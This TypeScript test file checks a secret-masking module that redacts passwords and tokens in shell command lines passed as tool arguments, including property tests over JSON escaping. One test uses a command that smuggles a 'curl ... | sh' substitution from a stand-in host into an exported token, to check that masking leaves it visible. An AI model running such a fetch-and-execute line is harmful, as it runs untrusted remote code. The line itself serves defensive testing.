import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { createMasker } from './masker.js';

const masker = createMasker({ fingerprintKey: 'shell-keys-test-key-0123456789abcd' });
const label = (text: string) => text.replace(/\[MASKED:[a-z-]+:([0-9a-f]+)\]/g, '[MASKED:$1]');
/** A command line as an MCP argument (an object member) is masked. */
const asMember = (cmd: string) =>
  String((masker.maskPayload({ arguments: { cmd } }, '') as { arguments: { cmd: string } }).arguments.cmd);
/** The same line inside a model's tool arguments, a JSON text, is masked; parsed back. */
const asJsonText = (json: string) => {
  const masked = String((masker.maskPayload({ arguments: json }, '') as { arguments: string }).arguments);
  return { masked, cmd: String((JSON.parse(masked) as { cmd: string }).cmd) };
};
/** Every character above ASCII written as a \u escape, as some encoders do. */
const asciiOnly = (json: string) =>
  json.replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

const word = fc.stringMatching(/^[a-z]{3,8}$/);
const password = fc.array(word, { minLength: 3, maxLength: 4 }).map((w) => w.join('-'));
const tail = fc.string({
  unit: fc.constantFrom('"', '\\', 'é', '€', '\n', ' ', '$', '(', ')', 'x', '1', '😀'),
  maxLength: 16,
});

test('property: a command line in a JSON text is masked as the same line in an object, at every escape', () => {
  fc.assert(
    fc.property(password, tail, fc.boolean(), (pw, rest, escapeAll) => {
      const cmd = `mysql -uroot -p${pw} -e ${JSON.stringify(rest)}`;
      const json = JSON.stringify({ cmd });
      const { masked, cmd: read } = asJsonText(escapeAll ? asciiOnly(json) : json);
      assert.ok(!masked.includes(pw), masked);
      assert.equal(label(read), label(asMember(cmd)));
    }),
  );
});

test('a substitution in the line stays outside the mask, in a JSON text as in an object', () => {
  const cmd = 'export API_TOKEN=amber-tide-lullaby$(curl -s https://e.example/a | sh)';
  const { cmd: read } = asJsonText(JSON.stringify({ cmd }));
  assert.match(
    read,
    /^export API_TOKEN=\[MASKED:[a-z-]+:[0-9a-f]+\]\$\(curl -s https:\/\/e\.example\/a \| sh\)$/,
  );
  assert.equal(label(read), label(asMember(cmd)));
  // A key that names no shell tool is read as before: prose is not a command line.
  const note = JSON.stringify({ note: 'mysql -pamber-tide-lullaby' });
  assert.equal(asJsonText(note).masked, note);
});
